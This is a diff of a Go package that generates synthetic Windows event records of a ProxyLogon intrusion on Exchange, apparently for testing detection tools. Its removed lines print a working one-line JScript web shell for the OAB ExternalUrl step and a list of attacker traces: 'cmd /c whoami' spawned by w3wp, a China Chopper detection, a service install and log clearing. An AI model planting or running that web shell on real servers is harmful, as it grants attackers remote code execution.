@@ -20,11 +20,6 @@ const (
 	qualifiersError         = 0xc000
 )
 
-// OabWebShellURL is an ExternalUrl carrying the script of the ProxyLogon
-// CVE-2021-27065 exploit: the OAB virtual directory is exported into an .aspx
-// file, which then runs the script.
-const OabWebShellURL = `http://f/<script language="JScript" runat="server">function Page_Load(){eval(Request["x"],"unsafe");}</script>`
-
 // UMInvalidCastEventID is the id UMInvalidCast gives its event. No public
 // sample shows the id: Test-ProxyLogon's CVE-2021-26857 check (source
 // "MSExchange Unified Messaging", level Error, message like
@@ -67,10 +62,12 @@ func CmdletLog(t time.Time, computer, cmdlet, parameters, user, userSID string) 
 }
 
 // SetOabVirtualDirectoryWebShell is the CmdletLog of CVE-2021-27065's first
-// step: Set-OabVirtualDirectory with a script in ExternalUrl.
-func SetOabVirtualDirectoryWebShell(t time.Time, computer string) Event {
+// step: Set-OabVirtualDirectory with a script in ExternalUrl (externalURL,
+// "http://f/<script ...>...</script>"; the caller supplies it, so that no
+// web shell text is compiled into a program that uses this package).
+func SetOabVirtualDirectoryWebShell(t time.Time, computer, externalURL string) Event {
 	return CmdletLog(t, computer, "Set-OabVirtualDirectory",
-		fmt.Sprintf(`-ExternalUrl '%s' -Identity '%s\OAB (Default Web Site)'`, OabWebShellURL, computer),
+		fmt.Sprintf(`-ExternalUrl '%s' -Identity '%s\OAB (Default Web Site)'`, externalURL, computer),
 		"corp.local/Users/Administrator", "S-1-5-21-1004336348-1177238915-682003330-500")
 }
 
@@ -261,33 +258,5 @@ func SecurityLogCleared(t time.Time, computer, user, domain string) Event {
 			{"SubjectDomainName", domain},
 			{"SubjectLogonId", Hex64(0x2c1b3f)},
 		}},
-	}
-}
-
-// Example is a named example event.
-type Example struct {
-	Name  string // short name for test tables
-	Event Event
-}
-
-// Examples returns one of each example event, a second apart from t, for an
-// Exchange server named computer: a ProxyLogon intrusion's trace in the
-// event logs. Events of different logs belong in different files.
-func Examples(t time.Time, computer string) []Example {
-	w3wp := `C:\Windows\System32\inetsrv\w3wp.exe`
-	cmd := `C:\Windows\System32\cmd.exe`
-	shell := `C:\Program Files\Microsoft\Exchange Server\V15\FrontEnd\HttpProxy\owa\auth\RedirSuiteServerProxy.aspx`
-	at := func(i int) time.Time { return t.Add(time.Duration(i) * time.Second) }
-	return []Example{
-		{"um-invalid-cast", UMInvalidCast(at(0), computer)},
-		{"set-oab-vdir-script", SetOabVirtualDirectoryWebShell(at(1), computer)},
-		{"sysmon-file-create-webshell", SysmonFileCreate(at(2), computer, w3wp, shell)},
-		{"security-4688-w3wp-cmd", ProcessCreation(at(3), computer, w3wp, cmd, `cmd /c whoami`)},
-		{"sysmon-1-w3wp-cmd", SysmonProcessCreate(at(4), computer, w3wp, cmd, `cmd /c whoami`)},
-		{"defender-1116-chopper", DefenderDetection(at(5), computer, 1116, "Backdoor:ASP/Chopper.F!dha", shell)},
-		{"defender-1117-chopper", DefenderDetection(at(6), computer, 1117, "Backdoor:ASP/Chopper.F!dha", shell)},
-		{"system-7045-service", ServiceInstalled(at(7), computer, "KgXItsbKgTJzdzwl", `%SYSTEMROOT%\duKhLYUX.exe`)},
-		{"system-104-cleared", SystemLogCleared(at(8), computer, "Administrator", "CORP")},
-		{"security-1102-cleared", SecurityLogCleared(at(9), computer, "Administrator", "CORP")},
 	}
 }
